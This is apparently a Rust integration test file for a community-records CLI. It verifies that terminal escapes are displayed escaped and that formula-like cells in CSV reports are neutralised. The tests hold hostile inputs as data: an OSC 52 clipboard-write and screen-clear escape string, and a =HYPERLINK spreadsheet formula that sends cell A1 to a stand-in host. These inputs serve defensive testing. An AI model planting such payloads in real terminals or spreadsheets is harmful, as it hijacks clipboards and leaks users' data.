//! Issue 11 items 10 and 11 through the real binary: terminal escapes in names, notes and
//! `--operator` are shown escaped by `report` (table, and CSV on a terminal), `history` and
//! import error messages, while files and pipes keep the exact text; and `report --format csv`
//! neutralises formula-like names as exports do.

mod skip;

mod interchange_support;
use interchange_support::*;

/// OSC 52 (write the clipboard), OSC 0 (retitle the window), CSI 2J (clear the screen).
const EVIL: &str = "坏\x1b]52;c;aGk=\x07\x1b]0;pwned\x07\x1b[2J站";
const HEADER: &str = "code,parent,level,name,station,opened_on,closed_on,operator,address,contact,phone,social_workers,certified_workers,note\n";

fn env_with_evil_unit() -> Env {
    let env = Env::xishan();
    let csv = format!("{HEADER}530112001001,530112001000,community,{EVIL},none,,,,,,,0,0,{EVIL}\n");
    let path = env.file("evil.csv", csv);
    let out = env.run(&[
        "--operator",
        "op\x1b]0;me\x07",
        "import",
        "units",
        path.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!out.stdout.contains(&0x1b), "the import summary echoes no escape");
    env
}

fn no_escape(bytes: &[u8], what: &str) {
    assert!(
        !bytes.iter().any(|b| *b == 0x1b || *b == 0x07),
        "{what} sends a control character: {}",
        String::from_utf8_lossy(bytes)
    );
}

#[test]
fn report_table_shows_escapes_escaped() {
    let env = env_with_evil_unit();
    for args in [
        vec!["report", "--unit", "530112001000", "--depth", "1"],
        vec!["report", "--unit", "530112001001"],
    ] {
        let out = env.run(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        no_escape(&out.stdout, "report");
        assert!(
            stdout(&out).contains("坏\\x1b]52;c;aGk=\\x07\\x1b]0;pwned\\x07\\x1b[2J站"),
            "{}",
            stdout(&out)
        );
    }
}

#[test]
fn history_shows_escapes_escaped() {
    let env = env_with_evil_unit();
    let out = env.run(&["history", "--unit", "530112001001"]);
    assert!(out.status.success(), "{}", stderr(&out));
    no_escape(&out.stdout, "history");
    assert!(stdout(&out).contains("op\\x1b]0;me\\x07"), "{}", stdout(&out));
    // Each field before and after is shown in words, escaped the same way.
    assert!(
        stdout(&out).contains("坏\\x1b]52;c;aGk=\\x07\\x1b]0;pwned\\x07\\x1b[2J站"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn import_errors_show_cells_escaped() {
    let env = Env::xishan();
    let csv = "id,unit,date,kind,evaluator,score,grade,note\n,9\x1b]0;x\x07,2021-01-01,midterm,a,,,\n,530112001000,\x1b[2J2021,midterm,a,,,\n";
    let path = env.file("bad\x1b[2J.csv", csv);
    for lang in ["en", "zh"] {
        let out = env.run_lang(lang, &["import", "evaluations", path.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
        no_escape(&out.stderr, "an import error");
        assert!(stderr(&out).contains("\\x1b"), "{}", stderr(&out));
    }
}

#[test]
fn files_and_pipes_keep_the_exact_text() {
    let env = env_with_evil_unit();
    let piped = env.ok(&["export", "units"]);
    assert!(piped.contains(EVIL));
    let file = env.path("units.csv");
    env.ok(&["export", "units", "-o", file.to_str().unwrap()]);
    assert!(std::fs::read_to_string(&file).unwrap().contains(EVIL));
    assert!(env.ok(&["report", "--format", "csv", "--depth", "9"]).contains(EVIL));
}

/// The binary run on a pseudo-terminal (`script`), so that stdout is a terminal; what the
/// terminal received.
fn on_a_terminal(env: &Env, args: &str) -> Option<Vec<u8>> {
    let command = format!(
        "{} --lang en --data-dir {} {args}",
        env!("CARGO_BIN_EXE_shegong"),
        env.dir.display()
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .output()
        .ok()?;
    out.status.success().then_some(out.stdout)
}

#[test]
fn csv_on_a_terminal_is_escaped() {
    let env = env_with_evil_unit();
    let Some(report) = on_a_terminal(&env, "report --format csv --depth 9") else {
        skip::skip("`script` (util-linux) is not here to give the program a terminal");
        return;
    };
    no_escape(&report, "report --format csv on a terminal");
    assert!(String::from_utf8_lossy(&report).contains("坏\\x1b]52;c;aGk=\\x07"));
    let export = on_a_terminal(&env, "export units").expect("script ran once already");
    no_escape(&export, "export on a terminal");
    assert!(String::from_utf8_lossy(&export).contains("坏\\x1b]52;c;aGk=\\x07"));
}

#[test]
fn report_csv_neutralises_formulas() {
    let env = Env::xishan();
    let name = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")";
    let csv = format!(
        "{HEADER}530112001001,530112001000,community,\"{}\",none,,,,,,,0,0,\n",
        name.replace('"', "\"\"")
    );
    env.import_ok("units", "formula.csv", csv);
    let report = env.ok(&["report", "--format", "csv", "--depth", "9"]);
    let line = report
        .lines()
        .find(|l| l.starts_with("530112001001,"))
        .expect("the row");
    assert!(line.contains("\"'=HYPERLINK("), "{line}");
    // No cell of the report starts with a formula character.
    let mut reader = csv::ReaderBuilder::new().from_reader(report.as_bytes());
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
        }
    }
}
